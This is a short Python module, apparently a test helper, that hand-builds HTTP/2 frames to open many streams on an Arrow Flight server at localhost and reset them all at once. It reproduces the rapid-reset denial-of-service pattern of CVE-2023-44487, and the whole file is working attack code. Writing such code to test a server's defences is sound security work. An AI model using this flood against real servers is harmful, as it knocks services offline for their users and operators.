"""Opens HTTP/2 streams of a Flight server and resets them at once, without a token: the pattern of CVE-2023-44487."""

from __future__ import annotations

import socket
import struct

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    )


def _header(name: bytes, value: bytes) -> bytes:
    """A literal of HPACK, not indexed."""
    return b"\x00%c%b%c%b" % (len(name), name, len(value), value)


_REQUEST = b"".join(
    (
        _header(b":method", b"POST"),
        _header(b":scheme", b"http"),
        _header(b":path", b"/arrow.flight.protocol.FlightService/DoExchange"),
        _header(b":authority", b"x"),
        _header(b"content-type", b"application/grpc"),
        _header(b"te", b"trailers"),
    )
)


def flood(port: int, streams: int) -> socket.socket:
    """Open that many streams on one connection, then reset all. Returns: the connection, which stays open."""
    numbers = range(1, 2 * streams, 2)
    opened = b"".join(_frame(_HEADERS, _END_HEADERS, number, _REQUEST) for number in numbers)
    reset = b"".join(_frame(_RST_STREAM, 0, number, _CANCEL) for number in numbers)
    connection = socket.create_connection(("127.0.0.1", port))
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0) + opened + reset)
    return connection
